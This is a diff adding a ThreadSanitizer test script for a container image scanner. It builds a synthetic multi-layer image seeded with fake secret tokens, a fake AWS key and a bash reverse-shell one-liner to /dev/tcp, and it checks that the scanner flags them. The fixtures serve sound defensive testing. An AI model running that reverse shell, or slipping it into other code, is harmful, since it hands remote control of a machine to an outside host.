@@ -1,0 +1,64 @@
+#!/usr/bin/python3
+"""A threaded scan under ThreadSanitizer (scripts/test.sh): the layer walk, the secret, malware,
+inventory and config scanners on 4 threads over a generated multi-layer image. Any data race or
+lock-order report fails it (TSan's exit code), whatever the findings.
+
+usage: tests/tsan_scan.py TSAN_BULWARK
+"""
+import json
+import os
+import subprocess
+import sys
+import tempfile
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "integration"))
+import image_util as u  # noqa: E402
+
+DPKG = "".join(f"Package: pkg{i}\nStatus: install ok installed\nVersion: 1.{i}-1\n"
+               f"Architecture: amd64\n\n" for i in range(300))
+
+
+def layers():
+    out = [u.Layer([u.D("etc"), u.F("etc/os-release", 'ID=debian\nVERSION_ID="12"\n'),
+                    u.F("etc/passwd", "root:x:0:0::/root:/bin/sh\n"), u.D("var"), u.D("var/lib"),
+                    u.D("var/lib/dpkg"), u.F("var/lib/dpkg/status", DPKG)], comp="gzip")]
+    # several layers of many small files, some with secrets, so that every worker has work
+    for n in range(6):
+        ents = [u.D(f"d{n}")]
+        for i in range(400):
+            body = f"line {i}\n" * 40
+            if i % 97 == 0:
+                body += f"token = ghp_{'Zx9Qw3Er7Ty1Ui5Op2As6Df4Gh8Jk0Lm3N'}{n}{i % 10}\n"
+            if i % 131 == 0:
+                body = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n" + body
+            ents.append(u.F(f"d{n}/f{i}.txt", body, mode=0o755 if i % 131 == 0 else 0o644))
+        out.append(u.Layer(ents, comp="gzip" if n % 2 else "zstd"))
+    out.append(u.Layer([u.W("d0/f1.txt"), u.D("app"),
+                        u.F("app/.env", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE1\n")]))
+    return out
+
+
+def main():
+    bulwark = sys.argv[1]
+    with tempfile.TemporaryDirectory() as d:
+        img = u.docker_save(os.path.join(d, "img.tar"), layers())
+        env = dict(os.environ, XDG_CACHE_HOME=os.path.join(d, "cache"),
+                   TSAN_OPTIONS="halt_on_error=1 exitcode=66 second_deadlock_stack=1")
+        for fmt in ("json", "sarif"):
+            p = subprocess.run([bulwark, "scan", "-j", "4", "-f", fmt, "--fail-on", "none", img],
+                               env=env, capture_output=True, text=True, timeout=900)
+            if p.returncode != 0 or "ThreadSanitizer" in p.stderr:
+                sys.stderr.write(p.stderr[-20000:])
+                sys.exit(f"tsan_scan: scan -f {fmt} exited {p.returncode}")
+            if fmt == "json":
+                # the threads did the work: every planted secret and reverse shell was found
+                doc = json.loads(p.stdout)
+                cats = [f.get("category") for f in doc["findings"]]
+                if cats.count("secret") < 6 * 5 or "malware" not in cats:
+                    sys.exit(f"tsan_scan: findings missing: {sorted(set(cats))}, "
+                             f"{cats.count('secret')} secrets")
+    print("tsan_scan: a 4-thread scan of an 8-layer image, no report")
+
+
+if __name__ == "__main__":
+    main()
